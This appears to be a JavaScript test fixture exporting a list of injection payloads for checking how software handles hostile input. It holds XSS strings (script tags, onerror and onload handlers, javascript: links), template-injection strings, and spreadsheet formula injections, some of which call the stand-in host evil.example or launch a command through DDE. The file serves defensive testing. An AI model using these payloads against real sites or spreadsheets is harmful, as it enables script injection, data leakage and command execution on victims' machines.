// CHECKS G9: a hundred texts that would like to be something else: markup, handlers, links that run, templates, formulas, signs of Markdown, text
// that turns the line around. What runs says so in `globalThis.ran`.
const runs = 'globalThis.ran=1';

const tags = [
  `<script>${runs}</script>`,
  `<ScRiPt>${runs}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${runs}>`,
  `<img src=x onerror="${runs}">`,
  `<svg onload=${runs}>`,
  `<svg><script>${runs}</script></svg>`,
  `<body onload=${runs}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src="javascript:parent.ran=1">`,
  `<a href="javascript:${runs}">trykk</a>`,
  `<details open ontoggle=${runs}>`,
  `<input autofocus onfocus=${runs}>`,
  `<video><source onerror=${runs}></video>`,
  `<object data="javascript:${runs}">`,
  `<embed src="javascript:${runs}">`,
  `<form action="javascript:${runs}"><button>x`,
  `<base href="http://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=http://evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${runs}>`,
  `<template><script>${runs}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${runs}>">`,
  `<textarea><img src=x onerror=${runs}></textarea>`,
  `<b onmouseover=${runs}>fet</b>`,
  `</title><script>${runs}</script>`,
  `</script><script>${runs}</script>`,
  `--><script>${runs}</script><!--`,
  `]]><script>${runs}</script>`,
  `" onmouseover="${runs}" x="`,
  `' onfocus='${runs}' autofocus='`,
  '` onerror=`' + runs,
  `"><img src=x onerror=${runs}>`,
  `'><svg/onload=${runs}>`,
];
const links = ['javascript', 'JaVaScRiPt', 'vbscript', 'data:text/html,<script>', 'java&#115;cript'].map(
  (scheme) => `${scheme}:${runs}//`,
);
const templates = [
  `{{constructor.constructor('${runs}')()}}`,
  '${globalThis.ran=1}',
  `#{globalThis.ran=1}`,
  `<%= ${runs} %>`,
  '{{=1+1}}',
  `$&$'$\``,
  '%s%n%x',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
];
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example";"trykk")',
  '=cmd|\' /C calc\'!A0',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example";"//a")',
  '+cmd|x',
  '-2+3+cmd|x',
  '@evil',
  ' =1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '"=1+1"',
  '";=1+1;"',
  ',=1+1,',
  '%0A=1+1',
  '|=1+1',
];
const markdown = [
  '# overskrift',
  '- punkt',
  '> sitat',
  '| en | tabell |',
  `[lenke](javascript:${runs})`,
  '![bilde](http://evil.example/x.png)',
  '<http://evil.example>',
  '```js',
  '---',
  '***fet***',
  '~~strøket~~',
  '[x]: http://evil.example "tittel"',
  `[a](<javascript:${runs}>)`,
  '\\',
  '1. først',
  'a\\',
];
const turning = ['a\u202eb\u202c', '\u2067tilbake\u2069', 'a\u202dב\u202c', '\u05e9\u05dc\u05d5\u05dd', 'e\u0301\u0302\u0303\u0304'];
const objects = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined'];

export const payloads = [...tags, ...links, ...templates, ...formulas, ...markdown, ...turning, ...objects];

/** Those that fit where a name goes. */
export const shortPayloads = payloads.filter((text) => [...text].length <= 40);
